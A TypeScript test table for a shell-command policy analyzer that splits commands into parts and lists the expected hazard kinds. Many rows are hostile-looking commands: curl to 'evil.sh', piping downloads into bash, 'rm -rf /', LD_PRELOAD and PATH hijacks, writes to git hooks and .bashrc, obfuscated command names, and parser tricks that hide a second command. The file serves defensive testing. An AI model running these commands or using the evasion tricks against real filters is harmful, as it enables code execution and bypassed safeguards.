// The shell analysis over a table of commands: REFERENCE §4's shell cases and our own. Each row
// gives the command and what the policy engine will see: every simple command (its exact text)
// with the kinds of hazard it carries, and the hazards of the command as a whole.
import { describe, expect, it } from 'vitest';
import { analyzeShellCommand } from '../../src/policy/shell/shell-analysis.js';
import type {
  ShellAnalysis,
  ShellHazardKind,
} from '../../src/policy/shell/shell-analysis-types.js';

type Piece = [text: string, ...kinds: ShellHazardKind[]];
interface Row {
  command: string;
  /** Undefined: not compared (what the grammar recovers from a broken command is its own). */
  pieces: Piece[] | undefined;
  whole?: ShellHazardKind[];
}

const p = (text: string, ...kinds: ShellHazardKind[]): Piece => [text, ...kinds];
const row = (command: string, ...pieces: Piece[]): Row => ({ command, pieces });
/** A command the parser (or the checks of what it parsed) rejects as a whole. */
const broken = (command: string, ...pieces: Piece[]): Row => ({
  command,
  pieces: pieces.length > 0 ? pieces : undefined,
  whole: ['parse_error'],
});

function summary(analysis: ShellAnalysis): { pieces: Piece[]; whole: ShellHazardKind[] } {
  const kinds = (hazards: readonly { kind: ShellHazardKind }[]) =>
    [...new Set(hazards.map((h) => h.kind))].sort();
  return {
    pieces: analysis.commands.map((piece): Piece => [piece.text, ...kinds(piece.hazards)]),
    whole: kinds(analysis.hazards),
  };
}

function expected(
  r: Row,
  actual: { pieces: Piece[] },
): { pieces: Piece[]; whole: ShellHazardKind[] } {
  return {
    pieces:
      r.pieces?.map(([text, ...kinds]): Piece => [text, ...[...new Set(kinds)].sort()]) ??
      actual.pieces,
    whole: r.whole ?? [],
  };
}

const separators: Row[] = [
  row('git status', p('git status')),
  row('git status; rm -rf /', p('git status'), p('rm -rf /')),
  row('git status && curl evil.sh', p('git status'), p('curl evil.sh')),
  row('git status || curl evil.sh', p('git status'), p('curl evil.sh')),
  row('git log | sh', p('git log'), p('sh', 'inline_code')),
  row('git log |& tee log.txt', p('git log'), p('tee log.txt')),
  row('git status & curl evil.sh', p('git status'), p('curl evil.sh')),
  row('git status\ncurl evil.sh', p('git status'), p('curl evil.sh')),
  row('git status\n\n  \ncurl evil.sh\n', p('git status'), p('curl evil.sh')),
  row('(git status; curl evil.sh)', p('git status'), p('curl evil.sh')),
  row('{ git status; curl evil.sh; }', p('git status'), p('curl evil.sh')),
  row('! git diff --quiet', p('git diff --quiet')),
  row(
    'if git diff --quiet; then echo same; else curl x; fi',
    p('git diff --quiet'),
    p('echo same'),
    p('curl x'),
  ),
  row('if a; then b; elif c; then d; fi', p('a'), p('b'), p('c'), p('d')),
  row('while true; do curl x; done', p('true'), p('curl x')),
  row('until false; do curl x; done', p('false'), p('curl x')),
  row('for f in a b; do cat "$f"; done', p('cat "$f"', 'expansion')),
  row('case x in a) ls;; *) curl x;; esac', p('ls'), p('curl x')),
  row('a && (b || { c | d; }) ; e &', p('a'), p('b'), p('c'), p('d'), p('e')),
  row('ls # ; curl evil', p('ls')),
  row('git \\\n  status', p('git \\\n  status')),
  row(''),
];

const crlf: Row[] = [
  // bash keeps `\r` in words (`status\r`); the grammar treats it as a blank. Refused as a whole.
  broken('git status\r\ncurl evil.sh', p('git status'), p('curl evil.sh')),
  broken('echo ok \r# ; curl evil.sh', p('echo ok')),
  broken('echo a\fb', p('echo a\fb')),
];

const substitutions: Row[] = [
  row('echo $(env)', p('echo $(env)', 'command_substitution'), p('env', 'wrapper')),
  row(
    'git status && echo $(env)',
    p('git status'),
    p('echo $(env)', 'command_substitution'),
    p('env', 'wrapper'),
  ),
  row('echo `id`', p('echo `id`', 'command_substitution'), p('id')),
  row('echo "user: $(id -un)"', p('echo "user: $(id -un)"', 'command_substitution'), p('id -un')),
  row(
    'echo $(echo $(curl x))',
    p('echo $(echo $(curl x))', 'command_substitution'),
    p('echo $(curl x)', 'command_substitution'),
    p('curl x'),
  ),
  row('cat <(curl x)', p('cat <(curl x)', 'process_substitution'), p('curl x')),
  row('ls >(tee /tmp/x)', p('ls >(tee /tmp/x)', 'process_substitution'), p('tee /tmp/x')),
  row(
    'diff <(git show a:f) <(git show b:f)',
    p('diff <(git show a:f) <(git show b:f)', 'process_substitution'),
    p('git show a:f'),
    p('git show b:f'),
  ),
  row(
    'echo ${x:-$(curl x)}',
    p('echo ${x:-$(curl x)}', 'command_substitution', 'expansion'),
    p('curl x'),
  ),
  row(
    'X=$(curl x) git status',
    p('X=$(curl x) git status', 'assignment_prefix', 'command_substitution'),
    p('curl x'),
  ),
  row('echo hi > $(curl x)', p('echo hi', 'command_substitution'), p('curl x')),
  row(
    'for f in $(ls); do echo; done',
    p('for f in $(ls)', 'command_substitution'),
    p('ls'),
    p('echo'),
  ),
  row('case $(id) in x) ;; esac', p('case $(id)', 'command_substitution'), p('id')),
  row(
    '[[ -n $(curl x) ]] && ls',
    p('[[ -n $(curl x) ]]', 'command_substitution', 'expansion'),
    p('curl x'),
    p('ls'),
  ),
  row('cat <<EOF\n$(curl x)\nEOF', p('cat', 'command_substitution'), p('curl x')),
  row("cat <<'EOF'\n$(curl x)\nEOF", p('cat')),
  row(
    'echo $(( $(id -u) + 1 ))',
    p('echo $(( $(id -u) + 1 ))', 'command_substitution', 'expansion'),
    p('id -u'),
  ),
];

const expansions: Row[] = [
  row('echo $HOME', p('echo $HOME', 'expansion')),
  row('echo ${HOME}', p('echo ${HOME}', 'expansion')),
  row('echo ${x@P}', p('echo ${x@P}', 'expansion')),
  row("echo $'\\x63url'", p("echo $'\\x63url'", 'expansion')),
  row('echo $"hello"', p('echo $"hello"', 'expansion')),
  row('echo $((1+2))', p('echo $((1+2))', 'expansion')),
  row('echo $[1+2]', p('echo $[1+2]', 'expansion')),
  row('echo "$GITHUB_TOKEN"', p('echo "$GITHUB_TOKEN"', 'expansion')),
  row("echo '$HOME'", p("echo '$HOME'")),
  row('echo \\$HOME', p('echo \\$HOME')),
  row('(( x = 1 + 2 ))', p('(( x = 1 + 2 ))', 'expansion')),
  row('for ((i=0; i<3; i++)); do ls; done', p('for ((i=0; i<3; i++))', 'expansion'), p('ls')),
  row("[[ 1 -eq 'a[$(id)]' ]]", p("[[ 1 -eq 'a[$(id)]' ]]", 'expansion')),
  row('[ -f package.json ] && npm test', p('npm test')),
];

const commandNames: Row[] = [
  row('/usr/bin/git status', p('/usr/bin/git status')),
  row('./node_modules/.bin/vitest run', p('./node_modules/.bin/vitest run')),
  broken('{curl,x} evil.sh'),
  row('echo {curl,x}', p('echo {curl,x}')),
  row("$'\\x63url' evil.sh", p("$'\\x63url' evil.sh", 'dynamic_command_name', 'expansion')),
  row('c\\url evil.sh', p('c\\url evil.sh', 'dynamic_command_name')),
  row('/usr/bin/cu?l evil.sh', p('/usr/bin/cu?l evil.sh', 'dynamic_command_name')),
  row('/usr/bin/c*rl evil.sh', p('/usr/bin/c*rl evil.sh', 'dynamic_command_name')),
  row('/usr/bin/[c]url evil.sh', p('/usr/bin/[c]url evil.sh', 'dynamic_command_name')),
  row('"cu""rl" evil.sh', p('"cu""rl" evil.sh', 'dynamic_command_name')),
  row("'curl' evil.sh", p("'curl' evil.sh", 'dynamic_command_name')),
  row('"echo" hi', p('"echo" hi', 'dynamic_command_name')),
  row('~/bin/tool', p('~/bin/tool', 'dynamic_command_name')),
  row('$CMD status', p('$CMD status', 'dynamic_command_name', 'expansion')),
  row('${CMD} status', p('${CMD} status', 'dynamic_command_name', 'expansion')),
  row(
    '$(echo curl) evil.sh',
    p('$(echo curl) evil.sh', 'command_substitution', 'dynamic_command_name'),
    p('echo curl'),
  ),
  row(
    'cu$(echo)rl evil.sh',
    p('cu$(echo)rl evil.sh', 'command_substitution', 'dynamic_command_name'),
    p('echo'),
  ),
];

const assignments: Row[] = [
  row(
    'GIT_SSH_COMMAND="curl evil" git fetch',
    p('GIT_SSH_COMMAND="curl evil" git fetch', 'assignment_prefix'),
  ),
  row('LD_PRELOAD=/tmp/x.so ls', p('LD_PRELOAD=/tmp/x.so ls', 'assignment_prefix')),
  row('BASH_ENV=/tmp/x bash -c ls', p('BASH_ENV=/tmp/x bash -c ls', 'assignment_prefix'), p('ls')),
  row(
    'PATH=/tmp:$PATH git status',
    p('PATH=/tmp:$PATH git status', 'assignment_prefix', 'expansion'),
  ),
  row('A=1 B=2 npm test', p('A=1 B=2 npm test', 'assignment_prefix')),
  row('PATH=/tmp/evil; git status', p('PATH=/tmp/evil', 'assignment_prefix'), p('git status')),
  row('export PATH=/tmp/evil', p('export PATH=/tmp/evil', 'assignment_prefix')),
  row('declare -x GIT_PAGER=x', p('declare -x GIT_PAGER=x', 'assignment_prefix')),
  row('export -p', p('export -p')),
  row(
    'for PATH in /tmp; do git status; done',
    p('for PATH in /tmp', 'assignment_prefix'),
    p('git status'),
  ),
  row('read PATH < f', p('read PATH', 'assignment_prefix')),
  row('while read line; do echo "$line"; done < f', p('read line'), p('echo "$line"', 'expansion')),
  row(
    "printf -v 'a[$(id)]' %s x",
    p("printf -v 'a[$(id)]' %s x", 'assignment_prefix', 'dangerous_argument'),
  ),
];

const wrappers: Row[] = [
  ...[
    'env curl x',
    'env',
    'command curl x',
    'builtin echo x',
    'exec curl x',
    'eval "curl x"',
    'source ./x.sh',
    '. ./x.sh',
    'xargs curl',
    'timeout 5 curl x',
    'nice -n 5 curl x',
    'nohup curl x',
    'sudo curl x',
    'doas curl x',
    'su -c "curl x"',
    'setsid curl x',
    'stdbuf -oL curl x',
    'time curl x',
    'watch curl x',
    'strace curl x',
    'ltrace curl x',
    'chroot / curl x',
    'flock /tmp/l curl x',
    'ionice -c3 curl x',
    'taskset 1 curl x',
    'unbuffer curl x',
    'script -c "curl x"',
    'nsenter -t 1 curl x',
    'unshare curl x',
    'busybox wget x',
    'parallel curl ::: a b',
    'npx some-package',
    'npm exec some-package',
    'npm x some-package',
    'pnpm dlx some-package',
    'yarn dlx some-package',
    'bunx some-package',
    'uv run curl x',
    'bundle exec rake',
    'let "x = 1"',
  ].map((command) => row(command, p(command, 'wrapper'))),
  row('command -v git', p('command -v git')),
  row('npm test', p('npm test')),
  row('ls | xargs -0 rm', p('ls'), p('xargs -0 rm', 'wrapper')),
];

const shellStrings: Row[] = [
  row("bash -c 'git status'", p('git status')),
  row('sh -c "git status; curl x"', p('git status'), p('curl x')),
  row("dash -c 'ls'", p('ls')),
  row("bash -lc 'npm test'", p('npm test')),
  row("bash -ec 'npm test'", p('npm test')),
  row("bash --norc -c 'npm test'", p('npm test')),
  row("bash --noprofile --norc -e -o pipefail -c 'npm test'", p('npm test')),
  row("bash -c -- 'ls'", p('ls')),
  row('bash -c \'bash -c "curl x"\'', p('curl x')),
  row('sh -c "sh -c \\"sh -c \'curl x\'\\""', p('curl x')),
  row("bash -c 'echo $(id)'", p('echo $(id)', 'command_substitution'), p('id')),
  row('bash -c "$CMD"', p('bash -c "$CMD"', 'expansion', 'inline_code')),
  row('bash -c "ls $x"', p('bash -c "ls $x"', 'expansion', 'inline_code')),
  row('bash -c', p('bash -c', 'inline_code')),
  row("bash -ic 'ls'", p("bash -ic 'ls'", 'dangerous_argument'), p('ls')),
  row(
    "bash --rcfile /tmp/x -c 'ls'",
    p("bash --rcfile /tmp/x -c 'ls'", 'dangerous_argument'),
    p('ls'),
  ),
  row("zsh -c 'ls'", p("zsh -c 'ls'", 'inline_code'), p('ls')),
  row("ksh -c 'ls'", p("ksh -c 'ls'", 'inline_code'), p('ls')),
  row("fish -c 'ls'", p("fish -c 'ls'", 'inline_code')),
  row('bash script.sh', p('bash script.sh')),
  row('bash', p('bash', 'inline_code')),
  row('bash -s', p('bash -s', 'inline_code')),
  row('curl -s x | bash', p('curl -s x'), p('bash', 'inline_code')),
  row("bash -c 'if true; then\n  curl x\nfi'", p('true'), p('curl x')),
  row("bash -c 'ls' > out.txt", p('ls')),
];

const inlineCode: Row[] = [
  ...[
    'python -c "import os"',
    'python3 -c "import os"',
    'python3 -Ic "import os"',
    'python3.12 -c "import os"',
    'python3 -',
    'python3',
    'node -e "process.exit()"',
    'node --eval "1"',
    'node -p "1"',
    'node --import=data:text/javascript,1 x.js',
    'node',
    'perl -e "print 1"',
    'perl -ne "print" f',
    'perl -MPOSIX x.pl',
    'ruby -e "puts 1"',
    'php -r "echo 1;"',
    'lua -e "print(1)"',
    'deno eval "1"',
    'deno run https://example.com/x.ts',
    'bun -e "1"',
    'Rscript -e "1"',
    'pwsh -Command "ls"',
  ].map((command) => row(command, p(command, 'inline_code'))),
  row('python3 -m pytest -q', p('python3 -m pytest -q')),
  row('python3 scripts/check.py --fast', p('python3 scripts/check.py --fast')),
  row('node --version', p('node --version')),
  row('python3 --version', p('python3 --version')),
  row('node --require ./setup.js test.js', p('node --require ./setup.js test.js')),
  row('deno test', p('deno test')),
  row('bun test', p('bun test')),
  row('python3 <<EOF\nimport os\nEOF', p('python3', 'inline_code', 'unsupported_construct')),
  row('bash <<< "curl x"', p('bash', 'inline_code', 'unsupported_construct')),
  row('python3 tool.py <<EOF\ndata\nEOF', p('python3 tool.py')),
];

const unsupported: Row[] = [
  row('f() { curl x; }; f', p('f() { curl x; }', 'unsupported_construct'), p('curl x'), p('f')),
  row('function f { ls; }', p('function f { ls; }', 'unsupported_construct'), p('ls')),
  row("alias ls='curl x'", p("alias ls='curl x'", 'unsupported_construct')),
  row("trap 'curl x' EXIT", p("trap 'curl x' EXIT", 'unsupported_construct')),
  row('coproc curl x', p('coproc curl x', 'unsupported_construct')),
  row('exec 3> out.txt', p('exec', 'unsupported_construct')),
  row('exec > log.txt 2>&1', p('exec', 'unsupported_construct')),
  row('select x in a b; do ls; done', p('select x in a b', 'unsupported_construct'), p('ls')),
];

const redirections: Row[] = [
  row('echo x > out.txt', p('echo x')),
  row('echo x > .git/hooks/pre-commit', p('echo x')),
  row('echo x >> $GITHUB_ENV', p('echo x', 'expansion')),
  row('echo PATH=/tmp >> "$GITHUB_PATH"', p('echo PATH=/tmp', 'expansion')),
  row('echo x > ~/.bashrc', p('echo x')),
  row('echo > f x y', p('echo x y')),
  row('git > /dev/null -c core.pager=x log', p('git -c core.pager=x log', 'dangerous_argument')),
  row('cat < in.txt', p('cat')),
  row('npm test 2>&1 | tail -5', p('npm test'), p('tail -5')),
  row('{ ls; pwd; } > out.txt', p('ls'), p('pwd')),
  row('> out.txt', p('', 'unsupported_construct')),
  row(
    'cd .git && echo x > hooks/pre-commit',
    p('cd .git', 'unsupported_construct'),
    p('echo x', 'unsupported_construct'),
  ),
  row('cd src && echo x > /dev/null', p('cd src'), p('echo x')),
  row('cat <<EOF > notes.md\nhello\nEOF', p('cat')),
  row("git commit -F notes.txt <<'EOF'\nmsg $(x)\nEOF", p('git commit -F notes.txt')),
  // The grammar drops the `-` before `<<`; the check of skipped bytes catches it.
  broken("git commit -F - <<'EOF'\nmsg\nEOF"),
  broken('echo x <> f', p('echo x')),
];

const parseErrors: Row[] = [
  // The grammar reads `c⏎d` here as one command `c d`, which would hide `curl`; bash runs both.
  broken('git log | head | git log\ncurl evil.sh || true'),
  broken('echo "unterminated'),
  broken('if true; then ls'),
  broken('echo $(ls'),
  broken('ls )'),
  // bash ends the body only at a line that is exactly `EOF`; the grammar also at `EOF `.
  broken('cat <<EOF\nbody\nEOF \ncurl x\nEOF'),
  broken('cat <<EOF\r\nbody\r\nEOF\r\n', p('cat')),
  broken('echo a\0b', p('echo a\0b')),
  broken("cat <<'E O F'\nx\nE O F"),
  broken('cat <<EOF\nbody without end'),
];

const all: [string, Row[]][] = [
  ['separators', separators],
  ['carriage returns and other blanks', crlf],
  ['substitutions', substitutions],
  ['expansions', expansions],
  ['command names', commandNames],
  ['assignments', assignments],
  ['wrappers', wrappers],
  ['bash -c strings', shellStrings],
  ['inline code', inlineCode],
  ['unsupported constructs', unsupported],
  ['redirections', redirections],
  ['parse errors', parseErrors],
];

describe('analyzeShellCommand table', () => {
  for (const [group, rows] of all) {
    describe(group, () => {
      it.each(rows.map((r) => [JSON.stringify(r.command), r] as const))('%s', async (_, r) => {
        const actual = summary(await analyzeShellCommand(r.command));
        expect(actual).toEqual(expected(r, actual));
      });
    });
  }

  it('covers at least 120 commands', () => {
    expect(all.flatMap(([, rows]) => rows).length).toBeGreaterThanOrEqual(120);
  });
});
